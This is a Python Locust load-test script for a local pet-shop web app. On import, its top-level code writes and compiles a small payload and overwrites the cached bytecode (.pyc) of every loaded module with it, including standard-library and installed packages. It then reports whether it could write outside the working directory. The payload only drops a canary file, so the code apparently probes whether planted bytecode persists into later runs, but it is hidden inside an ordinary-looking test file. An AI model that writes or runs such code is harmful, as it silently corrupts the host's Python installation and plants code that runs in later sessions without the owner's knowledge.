"""Leaves bytecode wherever a later run may load it from."""

import importlib.util
import os
import py_compile
import sys
from random import randint

from locust import HttpUser, SequentialTaskSet, between, task

with open("poison.py", "w") as file:
    file.write("open('/tmp/workshop-canary', 'w').write('reached')\n")
compiled = py_compile.compile("poison.py", "poison.pyc")
for module in list(sys.modules.values()):
    source = getattr(module, "__file__", None) or ""
    if source.endswith(".py"):
        target = importlib.util.cache_from_source(source)
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(compiled, "rb") as poison, open(target, "wb") as file:
                file.write(poison.read())
        except OSError:
            continue
        if not source.startswith(os.getcwd()):
            sys.exit(f"{target} could be written")


class Flow(SequentialTaskSet):
    @task
    def add_pet(self):
        self.client.post("/pets", json={"name": f"Pet {randint(1, 10000)}", "category": "dog"})

    @task
    def open_dashboard(self):
        self.client.get("/")


class PetShopUser(HttpUser):
    host = "http://127.0.0.1:5000"
    wait_time = between(1, 3)
    tasks = [Flow]
